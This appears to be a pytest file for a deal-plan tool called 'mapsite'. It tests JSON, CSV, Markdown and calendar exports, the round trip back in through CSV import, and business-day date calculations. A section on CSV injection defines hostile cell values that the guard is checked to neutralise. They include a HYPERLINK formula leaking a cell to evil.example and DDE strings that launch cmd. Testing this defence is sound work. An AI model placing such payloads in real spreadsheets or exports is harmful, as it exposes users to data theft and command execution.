"""mapsite export: the example deal's plan as JSON, CSV, Markdown and iCalendar, and back in.

Expected dates are worked out by hand from content/deals/acme/index.md and the example site's
calendar (Memorial Day, 2027-05-31, is a holiday).
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re

import icalendar
import pytest

from mapsite.exchange.cell_guard import FORMULA_STARTS, guard_cell, unguard_cell
from mapsite.pipeline.load import load_deals
from mapsite.read.site import load_site
from tests.helpers import TODAY, run

TOP_LEVEL_KEYS = [
    "format", "version", "slug", "title", "buyer", "seller", "partner", "close_date", "go_live", "stage",
    "updated", "public", "value_summary", "stakeholders", "milestones", "actions", "success_criteria",
    "risks", "cadence", "resources",
]  # fmt: skip


def export(site, *args: str):
    return run("export", "acme", *args, "--site", str(site))


def test_json_export_has_the_documented_structure_and_resolved_dates(example_site):
    result = export(example_site, "--format", "json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert list(data) == TOP_LEVEL_KEYS
    assert (data["format"], data["version"], data["slug"]) == ("mapsite-plan", 1, "acme")
    assert data["buyer"] == {"name": "Acme Corp", "accent": "#0A66C2"}
    assert data["seller"] == {"name": "Northwind Software", "accent": None}
    assert data["partner"] is None
    # go_live: close + 25bd = May 3-7, 10-14, 17-21, 24-28 (20), Jun 1-4 (24, May 31 is a holiday), Jun 7.
    assert (data["close_date"], data["go_live"], data["updated"]) == (
        "2027-04-30",
        "2027-06-07",
        "2027-02-19",
    )
    assert data["stakeholders"][1] == {
        "id": "cfo",
        "name": "Raj Patel",
        "title": "CFO",
        "side": "buyer",
        "role": "economic_buyer",
        "email": None,
        "notes": None,
    }
    milestones = {m["id"]: m for m in data["milestones"]}
    assert len(data["milestones"]) == 15
    assert milestones["poc-setup"] == {
        "id": "poc-setup",
        "phase": "Validation",
        "name": "POC Environment Setup",
        "owners": ["it-manager", "se"],
        "due": "2027-02-18",  # poc-scope (Mon Feb 15) + 3 business days
        "due_as_written": "poc-scope + 3bd",
        "depends_on": ["poc-scope"],
        "status": "in_progress",
        "completed": None,
        "notes": "Access credentials pending",
        "actions": [
            {
                "task": "Provide data sample for POC",
                "owner": "it-manager",
                "due": "2027-02-18",
                "done": False,
            },
            {"task": "Provide POC environment access", "owner": "se", "due": "2027-02-18", "done": True},
        ],
    }
    resolved = {
        key: milestones[key]["due"] for key in ("security-review", "negotiation", "legal-review", "signature")
    }
    # Thu Apr 1 + 7bd = Apr 12; Fri Apr 30 - 8bd = Apr 20; - 3bd = Apr 27; close itself.
    assert resolved == {
        "security-review": "2027-04-12",
        "negotiation": "2027-04-20",
        "legal-review": "2027-04-27",
        "signature": "2027-04-30",
    }
    assert milestones["kickoff-call"]["due"] == "2027-05-05"  # signature + 3bd: May 3, 4, 5
    assert data["actions"][1] == {
        "task": "Complete security questionnaire",
        "owner": "infosec",
        "due": "2027-04-01",
        "done": False,
        "milestone": "security-submit",
    }
    assert data["risks"][2]["status"] == "mitigated"
    assert data["resources"] == [
        {"title": "Security whitepaper", "url": "https://northwind.example/security", "file": None},
        {"title": "ROI model (PDF)", "url": None, "file": "files/roi-model.pdf"},
    ]
    assert "access" not in data and "password" not in result.stdout


def test_csv_export_then_import_round_trips_the_plan(example_site, tmp_path):
    out = tmp_path / "acme-plan.csv"
    result = export(example_site, "--format", "csv", "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"Wrote the plan of acme (15 milestones) to {out}."
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfId,Phase,Milestone,Owner (Customer),Owner (Vendor),Due Date,Status,")
    assert (
        "signature,Close,Contract Signature,Raj Patel (CFO),Tom Reyes (VP Sales),2027-04-30,Pending,"
        "Legal Review Complete; Security Review Complete,\r\n"
    ) in raw.decode("utf-8-sig")

    imported = run(
        "import", str(out), "--slug", "round-trip", "--buyer", "Acme Corp", "--site", str(example_site)
    )
    assert imported.returncode == 0, imported.stderr
    # The example deal's ROI step falls on a Saturday (relative dates resolve to any day).
    assert imported.stderr == (
        f"{out.name} row 8: 'ROI Analysis Complete' is due on Sat 2027-03-20, a weekend day; imported as written\n"
    )
    checked = run("check", "--site", str(example_site), "--today", TODAY)
    assert checked.returncode == 0 and "Checked 4 deals: 0 errors," in checked.stdout

    deals = load_deals(load_site(example_site)[0], dt.date(2027, 2, 22)).deals
    original, copy = (next(d for d in deals if d.slug == slug) for slug in ("acme", "round-trip"))

    def plan(deal):
        return [
            (
                m.id,
                m.phase,
                m.name,
                m.due,
                m.status,
                m.notes,
                m.depends_on,
                [(p.name, p.title, p.side) for p in map(deal.stakeholder, m.owners)],
            )
            for m in deal.milestones
        ]

    assert plan(copy) == plan(original)
    assert copy.close_date == original.close_date


def test_markdown_export_is_a_readable_plan(example_site):
    result = export(example_site, "--format", "md")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[:3] == [
        "# Acme x Northwind: Marketing Automation Rollout",
        "",
        "Acme Corp and Northwind Software. Target close: 2027-04-30. Go-live: 2027-06-07. 4 of 15 milestones done.",
    ]
    assert (
        "| Phase | Milestone | Owner (Customer) | Owner (Vendor) | Due | Status | Depends on | Notes |"
        in lines
    )
    assert (
        "| Procurement | Security Review Complete | InfoSec Team | Priya Nair (Sales Engineer) | 2027-04-12 | "
        "At risk | Security Review Submitted | Typical 7-10 day review |"
    ) in lines
    assert "| Provide POC environment access | Priya Nair | 2027-02-18 | yes |" in lines
    assert "| Raj Patel | CFO | Acme Corp | Economic buyer |" in lines


def test_ics_export_writes_the_plan_calendar(example_site, tmp_path):
    out = tmp_path / "acme.ics"
    result = export(example_site, "--format", "ics", "--out", str(out))
    assert result.returncode == 0, result.stderr
    calendar = icalendar.Calendar.from_ical(out.read_bytes())
    events = {str(e["SUMMARY"]): e.decoded("DTSTART") for e in calendar.walk("VEVENT")}
    assert events["Milestone: Contract Signature"] == dt.date(2027, 4, 30)
    assert events["Milestone: Kickoff Call"] == dt.date(2027, 5, 5)


def test_exporting_an_unknown_deal_says_so(example_site):
    result = run("export", "nope", "--format", "csv", "--site", str(example_site))
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "error: no deal with slug 'nope', nor a deal file or folder of that name (hint: name a deal "
        "by its slug or its file in content/deals; list them with: mapsite list)"
    ]


# Issue 12, finding 9: cells a spreadsheet would run. Each starts with one of the characters
# OWASP lists for CSV injection (= + - @, tab, carriage return); the deal file is the attacker's.
HOSTILE = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "dash_text": "- call CFO",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=already behind a quote",
}
# Owner cells list people separated by , ; / + (docs/deal-format.md): names without those.
PEOPLE = {"at": "@cmd|' -c calc'!A0", "equals": "=cmd|' -c calc'!A0", "title": "=A1*2"}


def hostile_deal() -> str:
    """A deal whose phases, milestone names, owner names, notes and dependencies all attack."""

    def q(text: str) -> str:
        return json.dumps(text)

    return f"""\
---
title: Hostile Co x Northwind
buyer: {{name: Hostile Co, accent: "#0A66C2"}}
close_date: 2027-04-30
updated: 2027-02-20
access:
  - {{label: Buying team, password_env: TEST_PORTAL_PASSWORD}}
value_summary: Hostile Co tests every cell.
stakeholders:
  - {{id: champ, name: {q(PEOPLE["at"])}, title: {q(PEOPLE["title"])}, side: buyer, role: champion}}
  - {{id: eb, name: {q(PEOPLE["equals"])}, side: buyer, role: economic_buyer}}
  - {{id: ae, name: {q(HOSTILE["dash_text"])}, side: seller, role: account_executive}}
milestones:
  - {{phase: {q(HOSTILE["plus"])}, id: one, name: {q(HOSTILE["equals"])}, owners: [champ, ae], due: 2027-03-01, notes: {q(HOSTILE["minus"])}}}
  - {{phase: {q(HOSTILE["at"])}, id: two, name: {q(HOSTILE["tab"])}, owners: [eb], due: 2027-03-08, depends_on: [one], notes: {q(HOSTILE["cr"])}}}
  - {{phase: Close, id: three, name: {q(HOSTILE["quoted"])}, owners: [eb, ae], due: close, depends_on: [two], notes: "-5"}}
  - {{phase: Close, id: signature, name: Contract Signature, owners: [eb], due: close, notes: {q(HOSTILE["dash_text"])}}}
---
The plan.
"""


def exported_rows(site, tmp_path) -> list[list[str]]:
    out = tmp_path / "hostile.csv"
    result = run("export", "hostile-co", "--format", "csv", "--out", str(out), "--site", str(site))
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_csv_export_puts_a_quote_before_every_cell_a_spreadsheet_would_run(site_factory, tmp_path):
    site = site_factory.make({"hostile-co.md": hostile_deal()})
    header, *rows = exported_rows(site, tmp_path)
    assert header == [
        "Id", "Phase", "Milestone", "Owner (Customer)", "Owner (Vendor)", "Due Date", "Status",
        "Dependencies", "Notes",
    ]  # fmt: skip
    cells = [cell for row in rows for cell in row]
    runnable = [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+", c)]
    assert runnable == []
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    h = HOSTILE
    assert by_id["one"] == {
        "Id": "one",
        "Phase": "'" + h["plus"],
        "Milestone": "'" + h["equals"],
        "Owner (Customer)": f"'{PEOPLE['at']} ({PEOPLE['title']})",
        "Owner (Vendor)": "'" + h["dash_text"],
        "Due Date": "2027-03-01",
        "Status": "Pending",
        "Dependencies": "",
        "Notes": "'" + h["minus"],
    }
    assert by_id["two"]["Phase"] == "'" + h["at"]
    assert by_id["two"]["Milestone"] == "'\t=1+1"
    assert by_id["two"]["Owner (Customer)"] == "'" + PEOPLE["equals"]
    assert by_id["two"]["Dependencies"] == "'" + h["equals"]  # the name of the step it waits for
    assert by_id["two"]["Notes"] == "'\r=1+1"
    # Text already behind a quote gets one more, so the import can take exactly one off.
    assert by_id["three"]["Milestone"] == "''=already behind a quote"
    assert by_id["three"]["Notes"] == "-5"  # a plain number is a value, not a formula
    assert by_id["signature"]["Notes"] == "'- call CFO"


def test_importing_the_guarded_csv_gives_back_the_text_as_written(site_factory, tmp_path):
    site = site_factory.make({"hostile-co.md": hostile_deal()})
    out = tmp_path / "hostile.csv"
    assert (
        run("export", "hostile-co", "--format", "csv", "--out", str(out), "--site", str(site)).returncode == 0
    )
    imported = run("import", str(out), "--slug", "copy", "--buyer", "Copy Co", "--site", str(site))
    assert imported.returncode == 0, imported.stderr

    deals = load_deals(load_site(site)[0], dt.date(2027, 2, 22)).deals
    original, copy = (next(d for d in deals if d.slug == slug) for slug in ("hostile-co", "copy"))

    def plan(deal):
        # Import reads a cell as a person sees it: runs of spaces, tabs and line breaks collapse.
        names = {m.id: " ".join(m.name.split()) for m in deal.milestones}
        return [
            (
                names[m.id],
                m.phase,
                m.notes and " ".join(m.notes.split()),
                [names[d] for d in m.depends_on],
                sorted((p.name, p.title) for p in map(deal.stakeholder, m.owners)),
            )
            for m in deal.milestones
        ]

    assert plan(copy) == plan(original)
    assert plan(copy)[0][0] == HOSTILE["equals"] and plan(copy)[2][0] == HOSTILE["quoted"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain",
        "Acme (CFO)",
        "-5",
        " -5",
        "-5.25",
        "2027-04-30",
        "'",
        "'-5",
        "''=x",
        " =1+1",
        "' @x",
        *HOSTILE.values(),
    ],
)
def test_guarding_a_cell_is_undone_exactly_by_the_import(text):
    guarded = guard_cell(text)
    assert unguard_cell(guarded) == text
    trimmed = guarded.lstrip(" ")  # as an import that trims spaces would read it
    assert not trimmed.startswith(FORMULA_STARTS) or re.fullmatch(r"-?\d+(\.\d+)?", trimmed)
